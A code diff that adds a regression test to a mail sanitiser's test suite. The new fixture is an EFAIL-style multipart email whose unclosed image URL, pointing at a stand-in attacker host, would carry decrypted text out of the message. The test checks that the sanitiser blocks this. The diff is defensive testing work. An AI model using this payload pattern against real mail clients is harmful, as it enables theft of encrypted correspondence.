@@ -4,6 +4,29 @@ from email.message import EmailMessage
 
 from mailgate.safe_reading import read_safely
 
+EFAIL = b"""\
+From: Eve <eve@example.org>
+To: support@example.com
+Subject: x
+Message-ID: <efail@example.org>
+MIME-Version: 1.0
+Content-Type: multipart/mixed; boundary=B
+
+--B
+Content-Type: text/html
+
+<p>Hello</p><img src="http://evil.example/
+--B
+Content-Type: text/plain
+
+THE-SECRET-THAT-WAS-DECRYPTED
+--B
+Content-Type: text/html
+
+"><p>Bye</p>
+--B--
+"""
+
 INNER = "Please cancel my order 512."
 
 
@@ -35,3 +58,11 @@ def test_what_a_person_forwards_is_not_folded_away() -> None:
     assert read.forward is not None
     assert INNER in read.safe_html
     assert "<details" not in read.safe_html
+
+
+def test_no_part_of_a_mail_ends_up_inside_a_tag_of_another() -> None:
+    """H-106: an address that is left open in one part must not swallow the next one and carry it away."""
+    read = read_safely(EFAIL)
+    assert "evil.example" not in read.safe_html
+    assert "data-remote-src" not in read.safe_html
+    assert "<pre>THE-SECRET-THAT-WAS-DECRYPTED</pre>" in read.safe_html
